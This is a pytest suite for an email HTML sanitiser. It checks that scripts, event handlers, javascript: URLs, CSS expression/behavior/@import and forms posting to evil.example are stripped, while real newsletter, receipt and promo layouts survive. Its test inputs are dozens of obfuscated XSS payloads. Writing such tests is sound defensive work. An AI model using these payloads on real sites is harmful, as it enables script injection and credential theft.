"""The HTML cleaner: hostile input loses every active part; real email layouts survive intact."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from marketing_cli.services.email.html_clean import PREVIEW_SPAN, clean_html, inject_preview_span

TEMPLATES = Path(__file__).parent.parent / "data" / "email_templates"


def read_template(name: str) -> str:
    return (TEMPLATES / name).read_text(encoding="utf-8")


# --- removals, one at a time -----------------------------------------------------------------

def test_script_is_removed_with_its_content() -> None:
    out = clean_html('<p>before</p><script>alert("pwned")</script><p>after</p>')
    assert out == "<p>before</p><p>after</p>"


@pytest.mark.parametrize("html", [
    "<SCRIPT>alert(1)</SCRIPT><p>x</p>",
    "<script src='https://evil.example/x.js'></script><p>x</p>",
    "<scr<script>ipt>alert(1)</script><p>x</p>",
])
def test_script_variants_are_removed(html: str) -> None:
    out = clean_html(html)
    assert "<script" not in out.lower() and "evil" not in out
    assert out.endswith("<p>x</p>") and "<" not in out.removesuffix("<p>x</p>")  # what is left is text


def test_iframe_is_removed_with_its_content() -> None:
    out = clean_html('<p>a</p><iframe src="https://evil.example/">fallback <b>text</b></iframe><p>b</p>')
    assert out == "<p>a</p><p>b</p>"


def test_form_tags_are_removed_and_their_text_kept() -> None:
    out = clean_html('<form action="https://evil.example/steal" method="post">Your password: '
                     '<input type="password" name="p"><button formaction="https://x.example/">Send</button></form>')
    assert "<form" not in out and "<input" not in out and "<button" not in out and "action" not in out
    assert "Your password:" in out and "Send" in out


@pytest.mark.parametrize("attribute", ["onclick", "onload", "onerror", "onmouseover", "ONFOCUS", "onanimationstart"])
def test_every_on_attribute_is_removed(attribute: str) -> None:
    out = clean_html(f'<div {attribute}="alert(1)" style="color:red">x</div>')
    assert out == '<div style="color:red">x</div>'


def test_on_attributes_on_image_and_body_are_removed() -> None:
    out = clean_html('<html><body onload="steal()" style="margin:0"><img src="https://a.example/i.png" '
                     'onerror="steal()"></body></html>')
    assert "steal" not in out and "onload" not in out and "onerror" not in out
    assert '<body style="margin:0">' in out and '<img src="https://a.example/i.png">' in out


@pytest.mark.parametrize("url", [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;script:alert(1)",
    "java&#x09;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\x01script:alert(1)",
    "java\x00script:alert(1)",
    "\x0bjavascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
])
def test_javascript_urls_are_removed_from_href(url: str) -> None:
    out = clean_html(f'<a href="{url}">click</a>')
    assert out == "<a>click</a>"


@pytest.mark.parametrize("html, kept", [
    ('<img src="javascript:alert(1)" alt="x">', '<img alt="x">'),
    ('<img src="JAVASCRIPT&#58;alert(1)" alt="x">', '<img alt="x">'),
    ('<table><tr><td background="java script:alert(1)">x</td></tr></table>', "<td>x</td>"),
    ('<table background="javascript:alert(1)" width="5"><tr><td>x</td></tr></table>', '<table width="5">'),
    ('<form action="javascript:alert(1)">t</form>', "t"),
    ('<button formaction="javascript:alert(1)">t</button>', "t"),
    ('<a href="https://ok.example/" style="x:expression(alert(1))">t</a>', '<a href="https://ok.example/">t</a>'),
])
def test_javascript_urls_are_removed_from_every_url_attribute(html: str, kept: str) -> None:
    out = clean_html(html)
    assert "alert" not in out and "script" not in out.lower()
    assert kept in out


def test_ordinary_comments_are_removed() -> None:
    assert clean_html("<p>a<!-- internal note: margin 12% --></p>") == "<p>a</p>"


def test_conditional_comments_are_cleaned_inside() -> None:
    out = clean_html('<!--[if mso]><table><tr><td onclick="x()"><script>alert(1)</script>'
                     '<a href="javascript:alert(2)">a</a><iframe src="https://e.example"></iframe><![endif]-->')
    assert out == "<!--[if mso]><table><tr><td><a>a</a><![endif]-->"


def test_vml_in_conditional_comments_is_kept_and_cleaned() -> None:
    out = clean_html('<!--[if mso]><v:roundrect href="https://shop.example/" onmouseover="x()" arcsize="10%">'
                     '<w:anchorlock/><center>Buy</center></v:roundrect>'
                     '<v:rect href="javascript:alert(1)"></v:rect><![endif]-->')
    assert out == ('<!--[if mso]><v:roundrect href="https://shop.example/" arcsize="10%"><w:anchorlock/>'
                   "<center>Buy</center></v:roundrect><v:rect></v:rect><![endif]-->")


def test_unknown_tags_are_dropped_and_their_text_kept() -> None:
    out = clean_html('<marquee>moving</marquee><object data="https://e.example/x.swf">o</object><p>ok</p>')
    assert out == "moving<p>ok</p>"


def test_meta_refresh_loses_its_http_equiv() -> None:
    out = clean_html('<html><head><meta http-equiv="refresh" content="0;url=https://e.example"></head>'
                     "<body>x</body></html>")
    assert "refresh" not in out


# --- what survives ------------------------------------------------------------------------------

def test_links_images_mailto_and_merge_tags_survive() -> None:
    html = ('<p>Hi {{contact.first_name}}, <a href="https://shop.example/?u={{contact.email_address}}&amp;x=1" '
            'target="_blank">shop</a> <a href="mailto:help@shop.example">mail us</a> '
            '<a href="{{unsubscribe_url}}">unsubscribe</a> <a href="#top">top</a> <a href="/relative">r</a>'
            '<img src="http://img.example/a.gif" width="1" height="1" alt=""></p>')
    assert clean_html(html) == html


@pytest.mark.parametrize("url, kept", [
    ("{{contact.website}}", True),
    ('{{contact.site | default: "https://shop.example"}}', True),
    ("https://shop.example/{{contact.id}}?a=b:c", True),
    ("{{}}javascript:alert(1)", False),
    ("java{{x}}script:alert(1)", False),
    ("{{a}}:{{b}}", False),
])
def test_merge_tags_in_urls(url: str, kept: bool) -> None:
    out = clean_html(f"<a href='{url}'>x</a>")
    assert (out != "<a>x</a>") is kept and "javascript" not in out


def test_style_elements_keep_their_rules() -> None:
    style = "<style>@media only screen and (max-width: 600px) { .col > td { width: 100% !important; } }</style>"
    assert clean_html(style + "<p>x</p>") == style + "<p>x</p>"


# --- CSS: one rule for <style> elements and style attributes (kernel/css.py) ----------------------

REFUSED_CSS = [
    "background:url(javascript:alert(1))",
    "background-image:url('JaVaScRiPt:alert(1)')",
    r"background:url(\6a avascript:alert(1))",
    r"x:\6a avascript:alert(1)",
    "background:url(vbscript:msgbox(1))",
    "background:url(data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "width:expression(alert(1))",
    "width:expression/**/(alert(1))",
    "width:ex/**/pression(alert(1))",
    r"width:\65xpression(alert(1))",
    "behavior:url(https://evil.example/x.htc)",
    "*behavior:url(x.htc)",
    r"beh\61vior:url(x.htc)",
    "-moz-binding:url(https://evil.example/x.xml#xss)",
    "@import url(https://evil.example/x.css)",
    r"@\69mport 'https://evil.example/x.css'",
]


@pytest.mark.parametrize("css", REFUSED_CSS)
def test_refused_css_goes_from_style_elements(css: str) -> None:
    html = f"<style>p{{color:red;{css};margin:0}}</style><p>x</p>"
    assert clean_html(html) == "<style>p{color:red;margin:0}</style><p>x</p>"


@pytest.mark.parametrize("css", REFUSED_CSS)
def test_refused_css_goes_from_style_attributes(css: str) -> None:
    html = f'<p style="color:red;{css};margin:0">x</p>'.replace('"j', "&quot;j")
    assert clean_html(html) == '<p style="color:red;margin:0">x</p>'


@pytest.mark.parametrize("css", REFUSED_CSS)
def test_refused_css_goes_inside_conditional_comments(css: str) -> None:
    html = f'<!--[if mso]><style>p{{color:red;{css}}}</style><td style="{css};width:5px">x</td><![endif]-->'
    assert clean_html(html) == '<!--[if mso]><style>p{color:red;}</style><td style="width:5px">x</td><![endif]-->'


def test_import_rules_go_from_the_head() -> None:
    html = ('<html><head><style>@import url(https://evil.example/x.css);\n@media screen { @import "y.css"; '
            "p { margin: 0 } }</style></head><body>x</body></html>")
    assert "<style>\n@media screen {  p { margin: 0 } }</style>" in clean_html(html)


def test_a_style_attribute_left_with_no_declaration_goes() -> None:
    assert clean_html('<p style="behavior:url(x.htc)">x</p>') == "<p>x</p>"
    assert clean_html('<p style=" width : expression(1) ; ">x</p>') == "<p>x</p>"
    assert clean_html('<p style="">x</p>') == '<p style="">x</p>'  # nothing was removed: kept as it was


def test_safe_css_is_kept_byte_for_byte() -> None:
    style = ("<style>/* brand */ .a{background:url(https://cdn.example/bg.png) no-repeat;font-family:'Segoe UI',Arial}"
             "\n.\\31 0col { width: 10% } td{background-image:url(images/x.jpg)} .b{color:{{contact.color}}}"
             "\n@font-face{font-family:X;src:url(https://f.example/x.woff2) format('woff2')}</style>")
    assert clean_html(style + "<p>x</p>") == style + "<p>x</p>"
    attribute = '<td style="background:url(https://cdn.example/a.png);BACKGROUND-COLOR : #FFF ; /* x */">y</td>'
    assert attribute in clean_html(f"<table><tr>{attribute}</tr></table>")


# --- every real layout: the same output as before CSS was cleaned ------------------------------------
#
# tests/data/email_templates/cleaned/ holds each layout as the cleaner of commit 2584e03 (before
# style sheets were cleaned) wrote it; the only difference allowed is a removed refused construct.

TEMPLATE_NAMES = sorted(path.name for path in TEMPLATES.glob("*.html"))
STYLE_ELEMENT = re.compile(r"(<style\b[^>]*>)(.*?)(</style>)", re.S)
STYLE_ATTRIBUTE = re.compile(r'(\sstyle=")([^"]*)(")')
RULE_BLOCK = re.compile(r"((?:^|(?<=[{};]))[^{};]*\{)")
POISON_RULES = ("@import url(https://evil.example/x.css);@\\69mport 'y.css';@im/**/port url(z.css);"
                "@-moz-document url(javascript:alert(1)){p{color:red}}@namespace x url(vbscript:x);")
POISON_DECLARATIONS = ("x:expression(alert(1));b:url(\\6a avascript:alert(1));-moz-binding:url(x.xml#a);"
                       "w:expression/**/(1);background:url(data:text/html,x);")


def poison(html: str) -> str:
    """Refused rules at the start of every style sheet, refused declarations at the start of
    every rule's block and of every style attribute."""
    def sheet(match: re.Match[str]) -> str:
        css = RULE_BLOCK.sub(lambda m: m.group(1) + ("" if "@" in m.group(1) else POISON_DECLARATIONS), match.group(2))
        return match.group(1) + POISON_RULES + css + match.group(3)

    html = STYLE_ELEMENT.sub(sheet, html)
    return STYLE_ATTRIBUTE.sub(lambda m: m.group(1) + POISON_DECLARATIONS.replace('"', "&quot;") + m.group(2)
                               + m.group(3), html)


@pytest.mark.parametrize("name", TEMPLATE_NAMES)
def test_real_layouts_come_out_as_before(name: str) -> None:
    original = read_template(name)
    cleaned = clean_html(original)
    assert cleaned == (TEMPLATES / "cleaned" / name).read_text(encoding="utf-8")
    for css in [m.group(2) for m in STYLE_ELEMENT.finditer(original)]:
        assert css in cleaned  # every style sheet, every rule as written
    for css in [m.group(2) for m in STYLE_ATTRIBUTE.finditer(original)]:
        assert f'style="{css}"' in cleaned


@pytest.mark.parametrize("name", TEMPLATE_NAMES)
def test_poisoned_real_layouts_lose_only_the_poison(name: str) -> None:
    poisoned = poison(read_template(name))
    assert poisoned.count("expression(alert(1))") >= 5 and "@import" in poisoned
    assert clean_html(poisoned) == (TEMPLATES / "cleaned" / name).read_text(encoding="utf-8")


def test_document_shell_is_kept() -> None:
    html = ('<!DOCTYPE html><html lang="en" xmlns:v="urn:schemas-microsoft-com:vml"><head><meta charset="utf-8">'
            '<title>T</title></head><body bgcolor="#ffffff" class="b" style="margin:0"><p>x</p></body></html>')
    out = clean_html(html)
    assert out.startswith('<!DOCTYPE html>\n<html lang="en" xmlns:v="urn:schemas-microsoft-com:vml">\n<head>\n'
                          '<meta charset="utf-8"><title>T</title>\n</head>\n')
    assert '<body bgcolor="#ffffff" class="b" style="margin:0"><p>x</p></body>' in out


def test_cleaning_twice_changes_nothing() -> None:
    for name in ("newsletter.html", "receipt.html", "promo.html"):
        once = clean_html(read_template(name))
        assert clean_html(once) == once


# --- three real-world responsive templates ------------------------------------------------------

def tags_of(html: str, name: str) -> list[str]:
    return re.findall(rf"<{name}\b[^>]*>", html)


def assert_survives(original: str, cleaned: str) -> None:
    """Every table, cell, link and image of the original, each with all its attributes."""
    for name in ("table", "td", "th", "img", "a", "tr"):
        assert len(tags_of(cleaned, name)) == len(tags_of(original, name)), name
    for value in re.findall(r'(?:href|src|background)="([^"]+)"', original):
        assert value in cleaned, value
    for attribute in re.findall(r'\b(?:width|height|cellpadding|cellspacing|border|align|valign|bgcolor|role|class)'
                                r'="[^"]*"', original):
        assert attribute in cleaned, attribute
    for style in re.findall(r'style="([^"]*)"', original):
        assert f'style="{style}"' in cleaned, style
    for tag in re.findall(r"\{\{[a-z_.]+\}\}", original):
        assert cleaned.count(tag) == original.count(tag), tag


def test_newsletter_template_survives() -> None:
    original = read_template("newsletter.html")
    cleaned = clean_html(original)
    assert_survives(original, cleaned)
    assert cleaned.startswith('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"')
    assert ('<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office" lang="en">') in cleaned
    assert '<meta name="viewport" content="width=device-width, initial-scale=1.0">' in cleaned
    assert ("@media only screen and (max-width: 620px) {\n    .wrapper { width: 100% !important; }") in cleaned
    assert ("<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96</o:PixelsPerInch>"
            "</o:OfficeDocumentSettings></xml><![endif]-->") in cleaned
    # the ghost table around the two fluid columns, in three halves
    assert '<!--[if mso]><table role="presentation" width="100%"><tr><td width="290" valign="top"><![endif]-->' in cleaned
    assert '<!--[if mso]></td><td width="290" valign="top"><![endif]-->' in cleaned
    assert "<!--[if mso]></td></tr></table><![endif]-->" in cleaned
    assert '<body style="margin:0;padding:0;background-color:#eef1f4;" bgcolor="#eef1f4">' in cleaned
    assert '<a href="mailto:hello@northwind.example">hello@northwind.example</a>' in cleaned
    assert "Northwind Ltd, 1 Harbour Street, Bristol" in cleaned


def test_receipt_template_survives() -> None:
    original = read_template("receipt.html")
    cleaned = clean_html(original)
    assert_survives(original, cleaned)
    assert "<thead>" in cleaned and "<tfoot>" in cleaned and '<center style="width:100%;background:#f6f6f6;">' in cleaned
    assert "@media (prefers-color-scheme: dark) {" in cleaned
    assert ".btn a:hover { background-color: #0b5ed7 !important; }" in cleaned
    assert ('<!--[if mso]>\n  <style type="text/css">\n    body, table, td { font-family: Arial, Helvetica, '
            "sans-serif !important; }\n  </style>\n  <![endif]-->") in cleaned
    assert '<td class="stack" width="20%" align="right" nowrap="" style="padding:8px 24px;' in cleaned
    assert '<a href="tel:+441234567890">+44 1234 567890</a>' in cleaned
    assert "€24.00" in cleaned  # &euro; is decoded, the text is the same


def test_promo_template_survives() -> None:
    original = read_template("promo.html")
    cleaned = clean_html(original)
    assert_survives(original, cleaned)
    assert '<link href="https://fonts.googleapis.com/css?family=Lato:400,700" rel="stylesheet" type="text/css">' in cleaned
    assert '<body width="100%" style="margin:0;padding:0;background-color:#222222;" yahoo="fix">' in cleaned
    assert '<div role="article" aria-roledescription="email" lang="fr" style="background-color:#222222;">' in cleaned
    # the bulletproof button: VML for Outlook, a styled link for everyone else
    assert ('<v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" xmlns:w="urn:schemas-microsoft-com:office:word" '
            'href="https://shop.example/soldes" style="height:44px;v-text-anchor:middle;width:220px;" arcsize="12%" '
            'strokecolor="#c1121f" fillcolor="#e63946">') in cleaned
    assert "<w:anchorlock/>" in cleaned and "</v:roundrect>\n        <![endif]-->" in cleaned
    assert '<!--[if !mso]><!-->\n        <a href="https://shop.example/soldes" class="button"' in cleaned
    assert "<!--<![endif]-->" in cleaned
    assert '<!--[if mso | IE]><table role="presentation" border="0" cellpadding="0" cellspacing="0" width="600" ' \
           'align="center"><tr><td><![endif]-->' in cleaned
    assert "Vous recevez cet e-mail car vous êtes inscrit(e) à notre lettre." in cleaned


# --- the preview span -------------------------------------------------------------------------

def test_preview_span_goes_right_after_body() -> None:
    out = inject_preview_span(clean_html('<html><body style="margin:0"><p>x</p></body></html>'))
    assert f'<body style="margin:0">{PREVIEW_SPAN}<p>x</p></body>' in out
    assert 'style="display:none !important;' in PREVIEW_SPAN and "mso-hide:all" in PREVIEW_SPAN
    assert "max-height:0" in PREVIEW_SPAN and "opacity:0" in PREVIEW_SPAN and "overflow:hidden" in PREVIEW_SPAN


def test_preview_span_goes_first_without_body_and_only_once() -> None:
    once = inject_preview_span(clean_html("<p>x</p>"))
    assert once == PREVIEW_SPAN + "<p>x</p>"
    assert inject_preview_span(once) == once
    assert inject_preview_span(clean_html(once)) == once  # the span survives cleaning as it is


def test_preview_span_in_a_full_template() -> None:
    out = inject_preview_span(clean_html(read_template("promo.html")))
    assert out.count("{{preview_text}}") == 1
    assert out.index("{{preview_text}}") > out.index("<body") > out.index("</head>")


def test_a_body_tag_written_in_a_comment_or_style_is_not_the_body() -> None:
    html = ('<html><head><!-- the <body> is styled below --><style>/* <body class="x"> */ p { margin: 0 }</style>'
            '</head><body style="margin:0"><p>x</p></body></html>')
    out = clean_html(html)
    assert '<style>/* <body class="x"> */ p { margin: 0 }</style>\n</head>\n<body style="margin:0"><p>x</p></body>' in out
    assert "styled below" not in out
    injected = inject_preview_span(out)
    assert f'<body style="margin:0">{PREVIEW_SPAN}<p>x</p>' in injected
